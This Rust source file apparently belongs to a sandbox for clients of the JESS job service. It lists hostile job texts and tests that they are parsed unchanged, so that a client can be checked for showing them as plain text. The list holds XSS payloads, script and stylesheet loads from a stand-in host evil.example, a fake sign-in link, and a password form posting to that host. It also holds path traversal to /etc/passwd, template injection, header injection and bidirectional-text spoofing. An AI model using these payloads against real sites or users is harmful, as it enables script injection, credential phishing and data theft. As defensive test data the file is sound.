//! Jobs whose texts are attacks, to test that a client shows them as plain text.
//!
//! JESS accepts any text as the name of a job. Each of these jobs has one such text in all its text members: name,
//! type, subset, arguments, description, status, message, progress and user. The sandbox lists them only on request.

use std::borrow::Cow;

use jess_api::Timestamp;

use crate::files::Run;
use crate::lifecycle::add_millis;
use crate::spec::{ErrorLevel, Kind, ReplyFormat, ResultSet};
use crate::user::USER;
use crate::wire::{JobRecord, NewerKeys, StatusRecord, status_number};

/// The number of the first hostile job: below all published ones (12,238 in 2020), so that lists begin with them.
const FIRST_NUMBER: u64 = 9_001;

/// The time between submissions, in milliseconds. The last one is just before the start, so that a page that sorts by
/// time shows these jobs first.
const SUBMISSION_INTERVAL_MS: i64 = 1_000;

/// The largest integer that all JSON parsers read exactly (RFC 8259, section 6).
const MAX_SAFE_INTEGER: i64 = (1 << 53) - 1;

/// The texts, each as a part and the number of its repetitions. None begins or ends with whitespace, and none is a
/// status that JESS documents.
const HOSTILE_TEXTS: &[(&str, usize)] = &[
    // Markup that would load a resource, run a script, or hide the page.
    (r#"<img src="//evil.example/x.png" onerror="alert(1)">"#, 1),
    (r#"</span></td></tr></table></script><script src="//evil.example/x.js"></script>"#, 1),
    (r#"<svg/onload=alert(1)><iframe srcdoc="<script>alert(1)</script>"></iframe>"#, 1),
    ("<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>", 1),
    ("<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>", 1),
    (r#"<a href="javascript:alert(1)" style="position:fixed;inset:0">Sign in again</a>"#, 1),
    ("<form action=//evil.example/><input name=password autofocus onfocus=alert(1)></form><!--", 1),
    // Text that would end an attribute, a script or a style.
    (r#"" autofocus tabindex=1 onfocus="alert(1)" onmouseover='alert(1)' x="#, 1),
    ("'); alert(1); //</script>", 1),
    ("red; background: url(//evil.example/leak) } body { display: none", 1),
    // Script URLs, and paths out of a directory.
    ("javascript:alert(document.cookie)", 1),
    ("data:text/html,<script>alert(1)</script>", 1),
    ("../../../etc/passwd%00.csv?ext=x#//evil.example/", 1),
    // Syntax of templates, JSON, entities, and names of object members.
    ("{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> #{7*7}", 1),
    (r#"x","ok":false,"status":"You are signed out","data":null}]}"#, 1),
    ("&lt;script&gt; &amp;amp; &#0; &#x202e; \\u003cscript\\u003e %3Cscript%3E", 1),
    ("__proto__", 1),
    ("constructor", 1),
    // Bidirectional controls, invisible, combining and control characters.
    ("\u{202e}exe.fdp\u{2067}\u{200f} never closed", 1),
    ("שלום \u{202d}עולם 123", 1),
    ("ad\u{200b}min\u{200d}\u{2060}\u{feff}\u{ad}istrator", 1),
    ("Z\u{30d}\u{30e}\u{304}\u{305}\u{33f}\u{316}\u{317}\u{318}\u{319}\u{31c}", 20),
    ("bell\u{7} null\u{0} escape\u{1b}[31m\r\nSet-Cookie: a=b\u{7f}\u{85}\u{2028}\u{2029}\ttab\u{fffe}", 1),
    // Text without a line break opportunity, and long text.
    ("W", 32),
    ("W", 3_000),
    ("👩🏽\u{200d}🚀🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", 60),
];

/// The number of hostile jobs.
pub(crate) const COUNT: usize = HOSTILE_TEXTS.len();

/// A hostile job.
pub(crate) struct HostileJob<'t> {
    pub(crate) number: u64,
    pub(crate) received: Timestamp,
    text: Cow<'t, str>,
}

impl HostileJob<'static> {
    /// Creates the job at a position, which must be below [`COUNT`], of a sandbox that started at `start`.
    pub(crate) fn nth(position: usize, start: Timestamp) -> Self {
        let (piece, times) = HOSTILE_TEXTS.get(position).copied().unwrap_or_default();
        let text = if times == 1 { Cow::Borrowed(piece) } else { Cow::Owned(piece.repeat(times)) };
        let after = u64::try_from(position).unwrap_or_default();
        let before_start = i64::try_from(COUNT.saturating_sub(position)).unwrap_or_default();
        Self {
            number: FIRST_NUMBER + after,
            received: add_millis(start, -SUBMISSION_INTERVAL_MS * before_start),
            text,
        }
    }

    /// Returns the position of the hostile job with this number.
    pub(crate) fn position(number: u64) -> Option<usize> {
        let position = usize::try_from(number.checked_sub(FIRST_NUMBER)?).ok()?;
        (position < COUNT).then_some(position)
    }
}

impl HostileJob<'_> {
    /// The format in which hostile jobs are listed: the one with more texts.
    pub(crate) const FORMAT: ReplyFormat = ReplyFormat::Of2021;

    /// Returns the job as it is listed.
    pub(crate) fn record(&self) -> JobRecord<'_> {
        let text = self.text.as_ref();
        JobRecord {
            number: self.number,
            id: USER.account,
            name: text,
            job_type: text,
            subset: text,
            arguments: text,
            status: text,
            message: text,
            progress: Cow::Borrowed(text),
            njobs: MAX_SAFE_INTEGER,
            received: self.received.as_millis(),
            cputime: MAX_SAFE_INTEGER,
            storage_size: MAX_SAFE_INTEGER,
            submission_size: MAX_SAFE_INTEGER,
            result_size: MAX_SAFE_INTEGER,
            username: text,
            newer: Some(NewerKeys {
                description: text,
                accepted: None,
                prepared: None,
                simulated: None,
                collected: None,
                retrieved: None,
                cancelled: None,
            }),
        }
    }

    /// Returns the status of the job.
    pub(crate) fn status(&self) -> StatusRecord<'_> {
        StatusRecord {
            job: self.number,
            id: status_number(self.number),
            status: &self.text,
            info: &self.text,
            progress: Cow::Borrowed(&self.text),
            cancel_flag: false,
            completion_time: None,
            last_update: self.received.as_millis(),
        }
    }

    /// Returns the data for the files of the job, which has no results yet.
    pub(crate) fn run(&self) -> Run<'_> {
        Run {
            number: self.number,
            name: &self.text,
            kind: Kind::Idf,
            cases: 1,
            case_cpu: 0,
            error_level: ErrorLevel::Warning,
            results: ResultSet::Usual,
            submitted: self.received,
            collected: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use jess_api::{Envelope, Job, JobStatus, read_job_list};
    use proptest::prelude::*;

    use super::*;

    const START: Timestamp = Timestamp::from_millis(1_795_500_000_000);

    /// Parses a job list that contains only this job.
    fn parse(hostile: &HostileJob<'_>) -> Job {
        let envelope =
            Envelope { ok: true, message: Some(hostile.text.to_string()), data: Some([hostile.record()]) };
        let reply = serde_json::to_vec(&envelope).unwrap();
        let list = read_job_list(&reply).unwrap();
        assert_eq!((list.jobs.len(), list.unreadable), (1, 0));
        list.jobs.into_iter().next().unwrap()
    }

    /// Returns the job that a client should parse.
    fn expected_job(hostile: &HostileJob<'_>) -> Job {
        // Blank texts, and the text "null" that JESS sends as `job_Name`, are parsed as `None`.
        let text = Some(hostile.text.to_string()).filter(|text| !matches!(text.trim(), "" | "null"));
        let number = u64::try_from(MAX_SAFE_INTEGER).ok();
        Job {
            account: Some(USER.account),
            name: text.clone(),
            description: text.clone(),
            job_type: text.clone(),
            subset: text.clone(),
            arguments: text.clone(),
            status: JobStatus::from_text(text.as_deref().unwrap_or_default()),
            message: text.clone(),
            cases: number,
            received: Some(hostile.received),
            cpu_seconds: number,
            storage_bytes: number,
            submission_bytes: number,
            result_bytes: number,
            username: text,
            ..Job::with_id(hostile.number.to_string().parse().unwrap())
        }
    }

    #[test]
    fn all_hostile_jobs_are_parsed_unchanged() {
        for hostile in (0..COUNT).map(|position| HostileJob::nth(position, START)) {
            assert_eq!(parse(&hostile), expected_job(&hostile));
        }
    }

    #[test]
    fn hostile_jobs_have_distinct_numbers_and_texts_and_precede_the_start() {
        let all: Vec<_> = (0..COUNT).map(|position| HostileJob::nth(position, START)).collect();
        let texts: BTreeSet<_> = all.iter().map(|hostile| &hostile.text).collect();
        assert_eq!(texts.len(), COUNT);
        assert!(all.is_sorted_by(|one, next| one.number < next.number && one.received < next.received));
        assert!(all.iter().all(|hostile| hostile.received < START && *hostile.text == *hostile.text.trim()));
        let positions: Vec<_> = (0..FIRST_NUMBER * 2).filter_map(HostileJob::position).collect();
        assert_eq!(positions, (0..COUNT).collect::<Vec<_>>());
    }

    proptest! {
        #[test]
        fn any_text_is_parsed_unchanged(text: String) {
            // The prefix keeps seven numbers from being parsed as progress.
            let hostile = HostileJob { number: 7, received: START, text: Cow::Owned(format!("x{text}")) };
            prop_assert_eq!(parse(&hostile), expected_job(&hostile));
        }
    }
}
